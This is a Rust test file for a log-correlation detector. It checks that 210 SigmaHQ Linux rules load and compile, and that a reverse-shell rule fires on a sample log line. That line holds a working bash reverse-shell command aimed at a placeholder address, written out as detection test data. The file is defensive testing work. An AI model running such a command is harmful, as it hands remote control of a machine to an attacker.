//! Loads and compiles the SigmaHQ Linux rules in `fixtures/sigma/sigmahq-linux/` and checks the
//! counts, so that a regression in loading shows. Run with `--nocapture` to see the report.

use std::collections::BTreeMap;
use std::path::PathBuf;

use cairn_correlate::{CompileOptions, Matcher, RuleKind, load_rules};

fn fixtures() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../fixtures/sigma/sigmahq-linux")
}

#[test]
fn sigmahq_linux_rules_load_and_compile() {
    let report = load_rules(&[fixtures()]);
    let (matcher, compile_rejected) = Matcher::compile(&report.loaded, &CompileOptions::default());

    let mut by_reason: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for rejection in report.rejected.iter().chain(&compile_rejected) {
        // Group by the reason without the rule-specific place.
        let reason = rejection
            .reason
            .rsplit_once(": ")
            .map_or(rejection.reason.as_str(), |(_, what)| what);
        let key = format!("{}: {reason}", rejection.error.kind());
        by_reason
            .entry(key)
            .or_default()
            .push(rejection.source.clone());
    }
    let detections = report
        .loaded
        .iter()
        .filter(|rule| matches!(rule.kind, RuleKind::Detection(_)))
        .count();
    let stats = matcher.stats();
    println!(
        "SigmaHQ linux: {} documents loaded ({detections} detection), {} rejected at load, {} \
         rejected at compile, {} compiled",
        report.loaded.len(),
        report.rejected.len(),
        compile_rejected.len(),
        matcher.len()
    );
    println!("matcher: {stats:?}");
    for (reason, sources) in &by_reason {
        println!("  {} × {reason}", sources.len());
        for source in sources {
            println!("      {source}");
        }
    }
    for rule in matcher.rules().filter(|rule| !rule.prefiltered) {
        println!("  always evaluated: {} ({})", rule.title, rule.source);
    }
    assert_eq!(report.loaded.len(), 210, "loaded");
    assert_eq!(report.rejected.len(), 0, "rejected at load");
    assert_eq!(compile_rejected.len(), 0, "rejected at compile");
    assert_eq!(matcher.len(), 210, "compiled");
    assert!(
        stats.always_evaluated == 0,
        "more always-evaluated rules than expected: {stats:?}"
    );
}

/// Spot check that real rules fire on the events they describe (and carry their author).
#[test]
fn sigmahq_reverse_shell_keyword_rule_fires() {
    let report = load_rules(&[fixtures().join("builtin/lnx_shell_susp_rev_shells.yml")]);
    let (matcher, rejected) = Matcher::compile(&report.loaded, &CompileOptions::default());
    assert!(rejected.is_empty());
    let mut scratch = matcher.scratch();
    let mut out = Vec::new();
    let meta = cairn_ingest::FrameMeta {
        seq: cairn_ingest::Seq(1),
        received_at: cairn_ingest::Timestamp(0),
        peer: None,
        source: cairn_ingest::Source::File,
        flags: cairn_ingest::EventFlags::empty(),
    };
    let line = "bash[812]: user ran: bash -i >& /dev/tcp/10.0.0.5/4444 0>&1";
    let event = cairn_ingest::Event::unparsed(bytes::Bytes::from_static(line.as_bytes()), &meta);
    matcher.match_event(&event, &mut scratch, &mut out);
    assert_eq!(out.len(), 1);
    let info = matcher.rule(out[0]);
    assert_eq!(info.title, "Suspicious Reverse Shell Command Line");
    assert!(info.author.is_some());
    let benign =
        cairn_ingest::Event::unparsed(bytes::Bytes::from_static(b"bash: ls -la /tmp"), &meta);
    matcher.match_event(&benign, &mut scratch, &mut out);
    assert!(out.is_empty());
}

#[test]
fn matcher_is_send_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Matcher>();
    assert_send_sync::<std::sync::Arc<Matcher>>();
}
